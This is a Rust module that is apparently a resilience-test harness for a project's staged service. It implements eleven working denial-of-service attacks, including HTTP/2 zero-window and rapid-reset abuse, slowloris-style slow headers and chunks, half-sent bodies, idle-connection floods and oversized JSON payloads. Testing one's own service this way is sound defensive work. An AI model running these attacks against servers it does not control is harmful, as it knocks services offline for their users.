//! The attacks. Each goes on until it is told that it is over, and counts its connections or requests.

use std::future::Future;
use std::io;
use std::pin::Pin;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use anyhow::{Context, Result};
use serde_json::json;
use tokio::io::AsyncWriteExt;
use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tokio_util::sync::CancellationToken;

use super::connection::{
    ACK, DATA, END_STREAM, FIRST_WINDOW, PING, RST_STREAM, WINDOW_UPDATE, Writer, drain, http1, http2, next,
};
use crate::stage::Stage;

/// How long an attacker waits after it lost a connection.
const PAUSE: Duration = Duration::from_millis(200);
/// As many begin at once, and the next ones after this time: what waits in the kernel costs the host nothing.
const AT_ONCE: usize = 64;
const BETWEEN: Duration = Duration::from_millis(20);
/// Between two bytes of who is slow.
const SLOW: Duration = Duration::from_millis(300);
/// The error code CANCEL.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// What an attack is made against.
#[derive(Clone, Debug)]
pub(super) struct Target {
    /// Of the public edge, without a scheme.
    pub(super) address: String,
    /// The relay's interface, and the token of a service: for a component that was taken over.
    relay: String,
    token: String,
    http: reqwest::Client,
    efforts: Arc<AtomicU64>,
}

impl Target {
    pub(super) fn of(stage: &Stage) -> Result<Self> {
        let running = stage.running()?;
        let address = stage.urls[0].strip_prefix("http://").context("the edge has an address over HTTP")?;
        Ok(Self {
            address: address.trim_end_matches('/').into(),
            token: running.service_token("product"),
            relay: running.relay,
            // Who has stopped attacking holds no connection.
            http: reqwest::Client::builder().no_proxy().pool_idle_timeout(PAUSE).build()?,
            efforts: Arc::default(),
        })
    }

    fn count(&self) {
        self.efforts.fetch_add(1, Ordering::Relaxed);
    }

    /// How many connections or requests the last attack took.
    pub(super) fn efforts(&self) -> u64 {
        self.efforts.load(Ordering::Relaxed)
    }

    /// Sends an order, whatever the answer is.
    async fn order(&self, body: String) {
        let request = self.http.post(format!("http://{}/v1/orders", self.address));
        self.send(request.header("idempotency-key", "stranger"), body).await;
    }

    async fn send(&self, request: reqwest::RequestBuilder, body: String) {
        let answer = request.header("content-type", "application/json").body(body).send().await;
        let refused = answer.is_ok_and(|answer| answer.status().as_u16() >= 429);
        if refused {
            tokio::time::sleep(PAUSE).await;
        }
    }
}

type Running = Pin<Box<dyn Future<Output = Option<()>> + Send>>;

/// An attack.
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) about: &'static str,
    /// What is counted.
    pub(super) unit: &'static str,
    /// Runs until the token is cancelled.
    pub(super) run: fn(Target, CancellationToken) -> Running,
}

/// All of them, in the order in which they run.
pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "takes-nothing",
        about: "10 connections of HTTP/2 with a window of 0 ask for 100 answers each",
        unit: "connections",
        run: |target, over| hold(10, target, over, takes_nothing),
    },
    Attack {
        name: "half-bodies",
        about: "600 POSTs announce 60,000 bytes and send one",
        unit: "connections",
        run: |target, over| hold(600, target, over, half_a_body),
    },
    Attack {
        name: "many-bodies",
        about: "40 connections of HTTP/2 send 60 KiB on each of 100 streams, and no end",
        unit: "connections",
        run: |target, over| hold(40, target, over, many_bodies),
    },
    Attack {
        name: "pings",
        about: "1,000 connections of HTTP/2 do nothing but answer pings",
        unit: "connections",
        run: |target, over| hold(1_000, target, over, answers_pings),
    },
    Attack {
        name: "idle",
        about: "3,000 connections send nothing",
        unit: "connections",
        run: |target, over| hold(3_000, target, over, idle),
    },
    Attack {
        name: "slow-heads",
        about: "500 connections send a header byte by byte",
        unit: "connections",
        run: |target, over| hold(500, target, over, slow_head),
    },
    Attack {
        name: "slow-chunks",
        about: "500 POSTs send their bodies in chunks of one byte",
        unit: "connections",
        run: |target, over| hold(500, target, over, slow_chunks),
    },
    Attack {
        name: "resets",
        about: "4 connections of HTTP/2 take back each request as soon as it is sent",
        unit: "connections",
        run: |target, over| hold(4, target, over, resets),
    },
    Attack {
        name: "json",
        about: "8 clients send 60 KiB of small JSON values again and again",
        unit: "requests",
        run: |target, over| repeat(8, target, over, json_bodies),
    },
    Attack {
        name: "unknown-skus",
        about: "8 clients order 100 SKUs that nobody has",
        unit: "requests",
        run: |target, over| repeat(8, target, over, unknown_skus),
    },
    Attack {
        name: "parameters",
        about: "24 callers with the token of a service send the relay parameters of 1 MiB of small JSON values",
        unit: "requests",
        run: |target, over| repeat(24, target, over, parameters),
    },
];

/// Holds as many connections; opens one anew where the other side hung up.
fn hold<F: Future<Output = io::Result<()>> + Send>(
    count: usize,
    target: Target,
    over: CancellationToken,
    attack: impl Fn(Target) -> F + Clone + Send + 'static,
) -> Running {
    repeat(count, target, over, move |target| {
        let attack = attack.clone();
        async move {
            let _ = attack(target).await;
            tokio::time::sleep(PAUSE).await;
        }
    })
}

/// Does something again and again, so many times beside each other.
fn repeat<F: Future<Output = ()> + Send>(
    count: usize,
    target: Target,
    over: CancellationToken,
    attack: impl Fn(Target) -> F + Clone + Send + 'static,
) -> Running {
    Box::pin(over.clone().run_until_cancelled_owned(async move {
        target.efforts.store(0, Ordering::Relaxed);
        let mut running = JoinSet::new();
        for number in 1..=count {
            let (target, attack) = (target.clone(), attack.clone());
            running.spawn(async move {
                loop {
                    target.count();
                    attack(target.clone()).await;
                }
            });
            if number % AT_ONCE == 0 {
                tokio::time::sleep(BETWEEN).await;
            }
        }
        running.join_all().await;
    }))
}

async fn takes_nothing(target: Target) -> io::Result<()> {
    let (read, mut writer) = http2(&target.address, Some(0)).await?;
    for (stream, path) in (1..200).step_by(2).zip(["/healthz", "/v1/products"].into_iter().cycle()) {
        writer.request(stream, "GET", path, END_STREAM).await?;
    }
    drain(read).await
}

async fn half_a_body(target: Target) -> io::Result<()> {
    let head = "content-type: application/json\r\nidempotency-key: stranger\r\ncontent-length: 60000\r\n\r\n{";
    let stream = http1(&target.address, &format!("POST /v1/orders HTTP/1.1\r\nhost: localhost\r\n{head}")).await?;
    drain(stream).await
}

async fn many_bodies(target: Target) -> io::Result<()> {
    const BODY: usize = 60 << 10;
    const PIECE: u32 = 15 << 10;
    let (mut read, mut writer) = http2(&target.address, None).await?;
    let window = Arc::new(Semaphore::new(FIRST_WINDOW));
    let grows = async {
        loop {
            let frame = next(&mut read).await?;
            if let (WINDOW_UPDATE, 0, Ok(bytes)) = (frame.kind, frame.stream, <[u8; 4]>::try_from(frame.payload)) {
                window.add_permits(u32::from_be_bytes(bytes) as usize);
            }
        }
    };
    let sends = async {
        for stream in (1..200).step_by(2) {
            writer.request(stream, "POST", "/v1/orders", 0).await?;
            for piece in vec![b' '; BODY].chunks(PIECE as usize) {
                window.acquire_many(PIECE).await.map_err(io::Error::other)?.forget();
                writer.frame(DATA, 0, stream, piece).await?;
            }
        }
        std::future::pending().await
    };
    tokio::select! {
        ended = grows => ended,
        ended = sends => ended,
    }
}

async fn answers_pings(target: Target) -> io::Result<()> {
    let (mut read, mut writer) = http2(&target.address, None).await?;
    loop {
        let frame = next(&mut read).await?;
        if frame.kind == PING && frame.flags & ACK == 0 {
            writer.frame(PING, ACK, 0, &frame.payload).await?;
        }
    }
}

async fn idle(target: Target) -> io::Result<()> {
    drain(http1(&target.address, "").await?).await
}

async fn slow_head(target: Target) -> io::Result<()> {
    let mut stream = http1(&target.address, "GET /healthz HTTP/1.1\r\nhost: localhost\r\nx: ").await?;
    loop {
        tokio::time::sleep(SLOW).await;
        stream.write_all(b"x").await?;
    }
}

async fn slow_chunks(target: Target) -> io::Result<()> {
    let head = "content-type: application/json\r\nidempotency-key: stranger\r\ntransfer-encoding: chunked\r\n\r\n";
    let text = format!("POST /v1/orders HTTP/1.1\r\nhost: localhost\r\n{head}");
    let mut stream = http1(&target.address, &text).await?;
    loop {
        tokio::time::sleep(SLOW).await;
        stream.write_all(b"1\r\n \r\n").await?;
    }
}

async fn resets(target: Target) -> io::Result<()> {
    let (read, mut writer): (_, Writer) = http2(&target.address, None).await?;
    let sends = async {
        for stream in (1..).step_by(2) {
            writer.request(stream, "GET", "/v1/products", END_STREAM).await?;
            writer.frame(RST_STREAM, 0, stream, &CANCEL).await?;
            if stream % 50 == 1 {
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        }
        Ok(())
    };
    tokio::select! {
        ended = drain(read) => ended,
        ended = sends => ended,
    }
}

/// Small values, so many bytes of them.
fn small_values(bytes: usize) -> String {
    format!("[{}1]", "1,".repeat(bytes / 2 - 2))
}

async fn json_bodies(target: Target) {
    let body = format!("{{\"lines\": {}}}", small_values(60 << 10));
    target.order(body).await;
}

async fn unknown_skus(target: Target) {
    let sku = |n: usize| format!("STRANGER-{n}-{}", rand::random::<u64>());
    let lines: Vec<_> = (0..100).map(|n| json!({ "sku": sku(n), "quantity": 1 })).collect();
    let order = json!({ "customer_id": "stranger", "payment_method": "stranger", "lines": lines });
    target.order(order.to_string()).await;
}

async fn parameters(target: Target) {
    let values = small_values((1 << 20) - 100);
    let body = format!("{{\"sql\": \"SELECT $1::jsonb IS NULL AS no\", \"params\": [{values}]}}");
    let request = target.http.post(format!("{}/v1/queries", target.relay)).bearer_auth(&target.token);
    target.send(request, body).await;
}
